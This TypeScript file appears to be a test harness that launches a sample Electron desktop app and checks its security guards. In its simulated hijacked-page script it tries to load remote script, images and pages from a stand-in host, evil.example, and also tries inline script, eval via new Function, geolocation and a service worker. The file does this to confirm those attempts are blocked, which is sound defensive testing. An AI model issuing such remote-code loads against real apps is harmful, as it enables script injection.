import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { launchSample } from '../electron-host/sample-app.ts';
import type { LaunchedApp } from './launched-app.ts';
import { appFolders } from './launch-app.ts';

const room = new URL('../../electron/', import.meta.url).href;

/** What runs as the app: window, guards, scheme and clipboard of the desktop room, and a clock that hurries. */
const main = (bundle: string, preload: string) => `
import { app, BrowserWindow, clipboard, ClipboardItem, protocol, screen, session } from 'electron';
import { Secret } from '${room}core/secret.ts';
import { appAnswer, appSchemes, readBundle } from '${room}desktop/app-scheme.ts';
import { AppWindow } from '${room}desktop/app-window.ts';
import { guardNavigation } from '${room}desktop/navigation-guard.ts';
import { guardPermissions } from '${room}desktop/permission-guard.ts';
import { becomeOnlyInstance } from '${room}desktop/single-instance.ts';
import { TokenClipboard } from '${room}desktop/token-clipboard.ts';
import { webPreferences } from '${room}desktop/web-preferences.ts';

const clock = {
  wallNow: () => Date.now(),
  monotonicNow: () => performance.now(),
  // Ten minutes take a tenth of a second.
  schedule(delayMs, work) {
    const timer = setTimeout(work, delayMs / 6_000);
    return () => clearTimeout(timer);
  },
};
const window = new AppWindow({
  platform: 'linux',
  wayland: false,
  used: () => undefined,
  clock,
  makeWindow: (options) => new BrowserWindow(options),
  webPreferences: webPreferences(${JSON.stringify(preload)}, { packaged: true }),
  guard: (contents) => guardNavigation({ contents, openOutside: () => undefined }),
  cursor: () => screen.getCursorScreenPoint(),
  workAreaAt: (point) => screen.getDisplayNearestPoint(point).workArea,
  isDark: () => false,
  hasTray: () => true,
  hidden: () => undefined,
});
protocol.registerSchemesAsPrivileged(appSchemes);
app.on('window-all-closed', () => undefined);
becomeOnlyInstance(app, () => window.show(null));
app.whenReady().then(async () => {
  guardPermissions(session.defaultSession);
  const bundle = await readBundle(${JSON.stringify(bundle)});
  protocol.handle('app', (request) => appAnswer(bundle, request));
  window.show(null);
  await new TokenClipboard({
    clipboard: {
      write: (parts) => clipboard.write([new ClipboardItem(parts)]),
      readText: () => clipboard.readText(),
      has: (format) => clipboard.has(format),
      clear: () => clipboard.clear(),
    },
    platform: 'linux',
    wayland: false,
    hasFocus: () => true,
    clock: { ...clock, schedule: () => () => undefined },
    mark: { set: async () => undefined, isSet: async () => false, isOf: async () => false, forget: async () => undefined },
    seconds: () => 60,
    changed: () => undefined,
  }).copy(new Secret('a token'), Date.now());
});
`;

/**
 * What a page tries that somebody took over. It is the page's own script: what a debugger such as Playwright's runs
 * is not bound by the page's policy.
 */
const pageScript = `
document.title = 'Desktop runs';
const blocked = (attempt) => attempt.then(() => 'reached', () => 'blocked');
const loads = (element, src) => blocked(new Promise((resolve, reject) => {
  Object.assign(element, { src, onload: resolve, onerror: reject });
  document.head.append(element);
}));
async function attempts() {
  const inline = document.createElement('script');
  inline.textContent = 'document.title = "inline";';
  document.head.append(inline);
  window.open('https://evil.example/');
  return {
    inline: document.title,
    own: await blocked(fetch('page.js')),
    elsewhere: await blocked(fetch('https://evil.example/')),
    script: await loads(document.createElement('script'), 'https://evil.example/x.js'),
    image: await loads(new Image(), 'https://evil.example/x.png'),
    code: await blocked((async () => new Function('return 1')())()),
    geolocation: (await navigator.permissions.query({ name: 'geolocation' })).state,
    worker: navigator.serviceWorker ? await blocked(navigator.serviceWorker.register('page.js')) : 'blocked',
  };
}
`;

/** The desktop room in the stand-in for Electron, with a page of its own in the place of ours. */
export async function launchDesktopSample(): Promise<LaunchedApp> {
  const folders = await appFolders();
  const bundle = join(folders.root, 'renderer');
  const preload = join(folders.root, 'preload.cjs');
  await mkdir(bundle);
  await Promise.all([
    writeFile(
      join(bundle, 'index.html'),
      '<!doctype html><title>Desktop</title><script src="page.js"></script>',
    ),
    writeFile(join(bundle, 'page.js'), pageScript),
    writeFile(join(bundle, 'other.html'), '<!doctype html><title>Other</title>'),
    writeFile(preload, ''),
  ]);
  const app = await launchSample({ main: main(bundle, preload) }, { folders });
  const end = app[Symbol.asyncDispose].bind(app);
  return Object.assign(app, {
    [Symbol.asyncDispose]: async () => {
      await end();
      await folders[Symbol.asyncDispose]();
    },
  });
}
